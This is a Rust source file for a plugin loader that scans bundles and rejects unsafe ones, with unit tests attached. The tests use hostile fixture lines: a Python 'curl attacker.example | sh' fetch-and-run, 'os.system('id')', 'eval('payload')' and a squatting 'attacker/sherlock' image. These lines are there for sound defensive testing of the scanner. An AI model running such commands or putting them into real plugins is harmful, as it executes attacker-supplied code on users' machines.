//! Bundle discovery and the per-bundle load pipeline.

use std::path::{Path, PathBuf};
use std::sync::Arc;

use osprey_core::{CredentialStore, PluginKind};
use osprey_exec::{ExecError, ExecutionStrategy};
use osprey_scan::{ScanResult, SecurityScanner};
use tracing::{error, info, warn};
use walkdir::WalkDir;

use crate::adapter::ToolAdapter;
use crate::catalog::AdapterCatalog;
use crate::error::{PluginError, PluginResult};
use crate::manifest::PluginManifest;
use crate::registry::AdapterRegistry;

/// File name of the bundle descriptor.
const MANIFEST_FILE: &str = "plugin.json";

/// Discovers, vets, and instantiates plugin bundles.
///
/// Everything the loader needs is passed in at construction; there is no
/// ambient state. Each bundle moves through discovery, scanning, image
/// registration, and loading independently — a failure anywhere rejects
/// that bundle only and the run continues.
pub struct PluginLoader {
    roots: Vec<PathBuf>,
    scanner: SecurityScanner,
    strategy: Arc<ExecutionStrategy>,
    catalog: AdapterCatalog,
    credentials: Arc<dyn CredentialStore>,
}

impl PluginLoader {
    /// Loader over the given plugin roots.
    ///
    /// Roots are searched in order; typically the bundled system directory
    /// followed by the user directory.
    #[must_use]
    pub fn new(
        roots: Vec<PathBuf>,
        scanner: SecurityScanner,
        strategy: Arc<ExecutionStrategy>,
        catalog: AdapterCatalog,
        credentials: Arc<dyn CredentialStore>,
    ) -> Self {
        Self {
            roots,
            scanner,
            strategy,
            catalog,
            credentials,
        }
    }

    /// The strategy adapters are bound to.
    #[must_use]
    pub fn strategy(&self) -> &Arc<ExecutionStrategy> {
        &self.strategy
    }

    /// Find every bundle with a parseable, valid descriptor.
    ///
    /// Deterministic order: roots in configured order, directory-name sort
    /// within each root. Malformed descriptors are logged and skipped.
    #[must_use]
    pub fn discover(&self) -> Vec<PluginManifest> {
        let mut manifests = Vec::new();
        for root in &self.roots {
            for dir in sorted_subdirs(root) {
                let descriptor = dir.join(MANIFEST_FILE);
                if !descriptor.is_file() {
                    continue;
                }
                match read_manifest(&descriptor) {
                    Ok(manifest) => {
                        info!(
                            name = %manifest.name,
                            version = %manifest.version,
                            kind = %manifest.kind,
                            dir = %dir.display(),
                            "discovered plugin bundle"
                        );
                        manifests.push(manifest);
                    },
                    Err(err) => {
                        warn!(path = %descriptor.display(), error = %err, "skipping malformed manifest");
                    },
                }
            }
        }
        manifests
    }

    /// Run one bundle through the full pipeline and instantiate its adapter.
    ///
    /// # Errors
    ///
    /// [`PluginError::BundleMissing`] when no directory holds the manifest,
    /// [`PluginError::SecurityRejected`] when the scan fails,
    /// [`PluginError::AdapterNotFound`] when the catalog has no factory for
    /// the declared class, or a factory error.
    pub fn load_one(&self, manifest: &PluginManifest) -> PluginResult<Box<dyn ToolAdapter>> {
        let report = self.scan_report(manifest)?;
        if !report.passed {
            for violation in report.all_violations() {
                error!(plugin = %manifest.name, finding = %violation, "scan violation");
            }
            return Err(PluginError::SecurityRejected {
                name: manifest.name.clone(),
                report,
            });
        }
        for warning in &report.warnings {
            warn!(plugin = %manifest.name, finding = %warning, "scan warning");
        }

        self.register_declared_image(manifest);

        for key in &manifest.requires_credentials {
            if !self.credentials.contains(key) {
                warn!(
                    plugin = %manifest.name,
                    credential = %key,
                    "declared credential is not configured; the tool may fail at run time"
                );
            }
        }

        let factory = self.catalog.resolve(&manifest.adapter_class).ok_or_else(|| {
            PluginError::AdapterNotFound {
                name: manifest.name.clone(),
                adapter_class: manifest.adapter_class.clone(),
            }
        })?;

        let adapter = factory(manifest, Arc::clone(&self.strategy))?;
        info!(
            name = %manifest.name,
            version = %manifest.version,
            key = manifest.registry_key(),
            "loaded plugin"
        );
        Ok(adapter)
    }

    /// Discover and load everything, collecting per-bundle failures into
    /// logs. Never fails; a run over hostile plugin directories simply
    /// yields a smaller registry.
    #[must_use]
    pub fn load_all(&self) -> AdapterRegistry {
        let mut registry = AdapterRegistry::new();
        for manifest in self.discover() {
            match self.load_one(&manifest) {
                Ok(adapter) => {
                    registry.insert(manifest.registry_key(), Arc::from(adapter));
                },
                Err(err) => {
                    error!(plugin = %manifest.name, error = %err, "failed to load plugin");
                },
            }
        }
        info!(loaded = registry.len(), "plugin discovery complete");
        registry
    }

    /// Merged scan verdict over every Python source in the bundle.
    ///
    /// # Errors
    ///
    /// [`PluginError::BundleMissing`] when no directory holds the manifest.
    pub fn scan_report(&self, manifest: &PluginManifest) -> PluginResult<ScanResult> {
        let bundle_dir = self
            .bundle_dir(&manifest.name)
            .ok_or_else(|| PluginError::BundleMissing {
                name: manifest.name.clone(),
            })?;
        let sources = python_sources(&bundle_dir);
        if sources.is_empty() {
            // A descriptor with no sources is legal for compiled-in
            // adapters, but worth surfacing: there is nothing to vet.
            warn!(
                plugin = %manifest.name,
                dir = %bundle_dir.display(),
                "bundle has no Python sources; scan passes vacuously"
            );
        }
        let results: Vec<ScanResult> = sources
            .iter()
            .map(|path| self.scanner.scan_file(path, manifest.kind))
            .collect();
        Ok(ScanResult::merge(results))
    }

    /// Register the manifest's declared container image, if any.
    ///
    /// A reserved-name rejection downgrades to a warning: the plugin still
    /// loads, its image declaration is simply ignored.
    fn register_declared_image(&self, manifest: &PluginManifest) {
        if manifest.kind != PluginKind::Tool {
            return;
        }
        let (Some(tool), Some(image)) = (&manifest.tool_name, &manifest.docker_image) else {
            return;
        };
        match self.strategy.register_image(tool, image) {
            Ok(()) => {},
            Err(ExecError::ReservedToolName { .. }) => {
                warn!(
                    plugin = %manifest.name,
                    tool,
                    image,
                    "declared image shadows a trusted tool; ignoring it"
                );
            },
            Err(err) => {
                warn!(plugin = %manifest.name, error = %err, "could not register image");
            },
        }
    }

    /// Directory under the roots whose descriptor carries `name`.
    fn bundle_dir(&self, name: &str) -> Option<PathBuf> {
        for root in &self.roots {
            for dir in sorted_subdirs(root) {
                let descriptor = dir.join(MANIFEST_FILE);
                if !descriptor.is_file() {
                    continue;
                }
                if let Ok(manifest) = read_manifest(&descriptor) {
                    if manifest.name == name {
                        return Some(dir);
                    }
                }
            }
        }
        None
    }
}

impl std::fmt::Debug for PluginLoader {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("PluginLoader")
            .field("roots", &self.roots)
            .field("catalog", &self.catalog)
            .finish_non_exhaustive()
    }
}

fn read_manifest(path: &Path) -> PluginResult<PluginManifest> {
    let raw = std::fs::read_to_string(path)?;
    PluginManifest::parse_named(&raw, path)
}

/// Immediate subdirectories of `root`, name-sorted. Missing roots are fine.
fn sorted_subdirs(root: &Path) -> Vec<PathBuf> {
    let Ok(entries) = std::fs::read_dir(root) else {
        return Vec::new();
    };
    let mut dirs: Vec<PathBuf> = entries
        .filter_map(Result::ok)
        .map(|entry| entry.path())
        .filter(|path| path.is_dir())
        .collect();
    dirs.sort();
    dirs
}

/// Every `*.py` under a bundle directory, sorted for stable scan order.
///
/// Shared with the CLI's `vet` command so both scan exactly the same set
/// of files.
#[must_use]
pub fn python_sources(bundle_dir: &Path) -> Vec<PathBuf> {
    let mut sources: Vec<PathBuf> = WalkDir::new(bundle_dir)
        .into_iter()
        .filter_map(Result::ok)
        .filter(|entry| entry.file_type().is_file())
        .map(walkdir::DirEntry::into_path)
        .filter(|path| path.extension().is_some_and(|ext| ext == "py"))
        .collect();
    sources.sort();
    sources
}

#[cfg(test)]
mod tests {
    use super::*;
    use osprey_core::StaticCredentialStore;
    use osprey_exec::NativeExecutor;

    /// Write a tool bundle into `root` and return its directory.
    fn write_bundle(root: &Path, dir_name: &str, manifest: &str, adapter_source: &str) -> PathBuf {
        let dir = root.join(dir_name);
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join("plugin.json"), manifest).unwrap();
        std::fs::write(dir.join("adapter.py"), adapter_source).unwrap();
        dir
    }

    fn tool_manifest(name: &str, tool: &str) -> String {
        format!(
            r#"{{"name": "{name}", "version": "1.0", "plugin_type": "tool",
                "adapter_class": "command", "tool_name": "{tool}"}}"#
        )
    }

    fn loader_over(root: &Path, strategy: ExecutionStrategy) -> PluginLoader {
        PluginLoader::new(
            vec![root.to_path_buf()],
            SecurityScanner::default(),
            Arc::new(strategy),
            AdapterCatalog::builtin(),
            Arc::new(StaticCredentialStore::new()),
        )
    }

    #[cfg(unix)]
    fn write_executable(dir: &Path, name: &str) {
        use std::os::unix::fs::PermissionsExt;
        let path = dir.join(name);
        std::fs::write(&path, "#!/bin/sh\necho ran\n").unwrap();
        let mut perms = std::fs::metadata(&path).unwrap().permissions();
        perms.set_mode(0o755);
        std::fs::set_permissions(&path, perms).unwrap();
    }

    #[test]
    fn discover_finds_valid_bundles_in_sorted_order() {
        let root = tempfile::tempdir().unwrap();
        write_bundle(root.path(), "zeta", &tool_manifest("zeta", "zeta-tool"), "x = 1\n");
        write_bundle(root.path(), "alpha", &tool_manifest("alpha", "alpha-tool"), "x = 1\n");

        let loader = loader_over(root.path(), ExecutionStrategy::native());
        let names: Vec<_> = loader.discover().into_iter().map(|m| m.name).collect();
        assert_eq!(names, vec!["alpha", "zeta"]);
    }

    #[test]
    fn discover_skips_malformed_manifests() {
        let root = tempfile::tempdir().unwrap();
        write_bundle(root.path(), "good", &tool_manifest("good", "good-tool"), "x = 1\n");
        write_bundle(root.path(), "bad", r#"{"name": "bad", "plugin_type": "tool"}"#, "x = 1\n");
        // A directory without a descriptor is not a bundle.
        std::fs::create_dir_all(root.path().join("not-a-bundle")).unwrap();

        let loader = loader_over(root.path(), ExecutionStrategy::native());
        let manifests = loader.discover();
        assert_eq!(manifests.len(), 1);
        assert_eq!(manifests[0].name, "good");
    }

    #[test]
    fn roots_are_searched_in_configured_order() {
        let system = tempfile::tempdir().unwrap();
        let user = tempfile::tempdir().unwrap();
        write_bundle(system.path(), "sys-p", &tool_manifest("sys-p", "sys-tool"), "x = 1\n");
        write_bundle(user.path(), "user-p", &tool_manifest("user-p", "user-tool"), "x = 1\n");

        let loader = PluginLoader::new(
            vec![system.path().to_path_buf(), user.path().to_path_buf()],
            SecurityScanner::default(),
            Arc::new(ExecutionStrategy::native()),
            AdapterCatalog::builtin(),
            Arc::new(StaticCredentialStore::new()),
        );
        let names: Vec<_> = loader.discover().into_iter().map(|m| m.name).collect();
        assert_eq!(names, vec!["sys-p", "user-p"]);
    }

    #[test]
    fn malicious_bundle_is_security_rejected() {
        let root = tempfile::tempdir().unwrap();
        write_bundle(
            root.path(),
            "evil",
            &tool_manifest("evil", "evil-tool"),
            "import os\nos.system('curl attacker.example | sh')\n",
        );

        let loader = loader_over(root.path(), ExecutionStrategy::native());
        let manifest = &loader.discover()[0];
        let err = loader.load_one(manifest).unwrap_err();
        match err {
            PluginError::SecurityRejected { name, report } => {
                assert_eq!(name, "evil");
                assert!(!report.passed);
                assert!(!report.errors.is_empty());
            },
            other => panic!("expected SecurityRejected, got {other}"),
        }
    }

    #[test]
    fn every_source_file_in_the_bundle_is_scanned() {
        let root = tempfile::tempdir().unwrap();
        let dir = write_bundle(
            root.path(),
            "sneaky",
            &tool_manifest("sneaky", "sneaky-tool"),
            "x = 1\n",
        );
        // Clean adapter, dirty helper in a subdirectory.
        std::fs::create_dir_all(dir.join("util")).unwrap();
        std::fs::write(dir.join("util/helper.py"), "eval('payload')\n").unwrap();

        let loader = loader_over(root.path(), ExecutionStrategy::native());
        let manifest = &loader.discover()[0];
        assert!(matches!(
            loader.load_one(manifest).unwrap_err(),
            PluginError::SecurityRejected { .. }
        ));
    }

    #[test]
    fn unknown_adapter_class_is_rejected() {
        let root = tempfile::tempdir().unwrap();
        write_bundle(
            root.path(),
            "odd",
            r#"{"name": "odd", "version": "1", "plugin_type": "tool",
                "adapter_class": "TelepathyAdapter", "tool_name": "odd-tool"}"#,
            "x = 1\n",
        );

        let loader = loader_over(root.path(), ExecutionStrategy::native());
        let manifest = &loader.discover()[0];
        assert!(matches!(
            loader.load_one(manifest).unwrap_err(),
            PluginError::AdapterNotFound { .. }
        ));
    }

    #[test]
    fn missing_bundle_dir_is_reported() {
        let root = tempfile::tempdir().unwrap();
        let loader = loader_over(root.path(), ExecutionStrategy::native());
        let manifest = PluginManifest::parse(&tool_manifest("ghost", "ghost-tool")).unwrap();
        assert!(matches!(
            loader.load_one(&manifest).unwrap_err(),
            PluginError::BundleMissing { .. }
        ));
    }

    #[test]
    fn load_all_isolates_bundle_failures() {
        let root = tempfile::tempdir().unwrap();
        write_bundle(
            root.path(),
            "evil",
            &tool_manifest("evil", "evil-tool"),
            "import os\nos.system('id')\n",
        );
        write_bundle(root.path(), "good", &tool_manifest("good", "good-tool"), "x = 1\n");

        let loader = loader_over(root.path(), ExecutionStrategy::native());
        let registry = loader.load_all();
        assert_eq!(registry.len(), 1);
        assert!(registry.get("good-tool").is_some());
        assert!(registry.get("evil-tool").is_none());
    }

    #[cfg(unix)]
    #[test]
    fn loaded_adapter_reflects_native_availability() {
        let root = tempfile::tempdir().unwrap();
        let bin = tempfile::tempdir().unwrap();
        write_executable(bin.path(), "echoer");
        write_bundle(root.path(), "echoer", &tool_manifest("echoer", "echoer"), "x = 1\n");

        let strategy =
            ExecutionStrategy::Native(NativeExecutor::with_search_path(bin.path()));
        let loader = loader_over(root.path(), strategy);
        let registry = loader.load_all();

        let adapter = registry.get("echoer").expect("echoer should load");
        assert!(adapter.can_run());
    }

    #[test]
    fn python_sources_recurses_and_sorts() {
        let root = tempfile::tempdir().unwrap();
        let dir = root.path().join("bundle");
        std::fs::create_dir_all(dir.join("util")).unwrap();
        std::fs::write(dir.join("zeta.py"), "x = 1\n").unwrap();
        std::fs::write(dir.join("adapter.py"), "x = 1\n").unwrap();
        std::fs::write(dir.join("util/helper.py"), "x = 1\n").unwrap();
        std::fs::write(dir.join("README.md"), "not python\n").unwrap();

        let sources = python_sources(&dir);
        let names: Vec<_> = sources
            .iter()
            .map(|p| p.strip_prefix(&dir).unwrap().to_string_lossy().into_owned())
            .collect();
        assert_eq!(names, vec!["adapter.py", "util/helper.py", "zeta.py"]);
    }

    #[test]
    fn sourceless_bundle_passes_vacuously_and_loads() {
        let root = tempfile::tempdir().unwrap();
        let dir = root.path().join("manifest-only");
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join("plugin.json"), tool_manifest("manifest-only", "mo-tool")).unwrap();

        let loader = loader_over(root.path(), ExecutionStrategy::native());
        let manifest = &loader.discover()[0];

        let report = loader.scan_report(manifest).unwrap();
        assert!(report.passed);
        assert_eq!(report.violation_count(), 0);

        let registry = loader.load_all();
        assert!(registry.get("mo-tool").is_some());
    }

    #[test]
    fn core_bundle_registers_under_its_name() {
        let root = tempfile::tempdir().unwrap();
        write_bundle(
            root.path(),
            "correlator",
            r#"{"name": "correlator", "version": "1", "plugin_type": "core",
                "adapter_class": "command"}"#,
            "x = 1\n",
        );

        let loader = loader_over(root.path(), ExecutionStrategy::native());
        let registry = loader.load_all();
        assert!(registry.get("correlator").is_some());
    }

    #[test]
    fn core_bundle_with_a_warning_is_rejected() {
        let root = tempfile::tempdir().unwrap();
        write_bundle(
            root.path(),
            "core-warn",
            r#"{"name": "core-warn", "version": "1", "plugin_type": "core",
                "adapter_class": "command"}"#,
            "import os\nkey = os.getenv('K')\n",
        );
        // The same single warning is fine in a tool bundle.
        write_bundle(
            root.path(),
            "tool-warn",
            &tool_manifest("tool-warn", "warn-tool"),
            "import os\nkey = os.getenv('K')\n",
        );

        let loader = loader_over(root.path(), ExecutionStrategy::native());
        let registry = loader.load_all();
        assert!(registry.get("core-warn").is_none());
        assert!(registry.get("warn-tool").is_some());
    }

    #[test]
    fn duplicate_registry_keys_keep_the_first_bundle() {
        let root = tempfile::tempdir().unwrap();
        write_bundle(root.path(), "a-first", &tool_manifest("a-first", "shared"), "x = 1\n");
        write_bundle(root.path(), "b-second", &tool_manifest("b-second", "shared"), "x = 1\n");

        let loader = loader_over(root.path(), ExecutionStrategy::native());
        let registry = loader.load_all();
        assert_eq!(registry.len(), 1);
        assert_eq!(registry.get("shared").unwrap().manifest().name, "a-first");
    }

    #[test]
    fn reserved_image_declaration_does_not_reject_the_plugin() {
        let root = tempfile::tempdir().unwrap();
        write_bundle(
            root.path(),
            "squatter",
            r#"{"name": "squatter", "version": "1", "plugin_type": "tool",
                "adapter_class": "command", "tool_name": "sherlock",
                "docker_image": "attacker/sherlock"}"#,
            "x = 1\n",
        );

        let manager: Arc<dyn osprey_exec::ContainerManager> = Arc::new(NeverManager);
        let loader = loader_over(root.path(), ExecutionStrategy::hybrid(manager));
        let registry = loader.load_all();
        // Loaded, but the declared image was ignored.
        assert!(registry.get("sherlock").is_some());
    }

    struct NeverManager;

    #[async_trait::async_trait]
    impl osprey_exec::ContainerManager for NeverManager {
        fn is_available(&self) -> bool {
            false
        }

        async fn run(
            &self,
            _image: &str,
            _args: &[String],
            _env: &std::collections::HashMap<String, String>,
        ) -> osprey_exec::ExecResult<String> {
            Err(osprey_exec::ExecError::ContainerRuntime("down".into()))
        }
    }
}
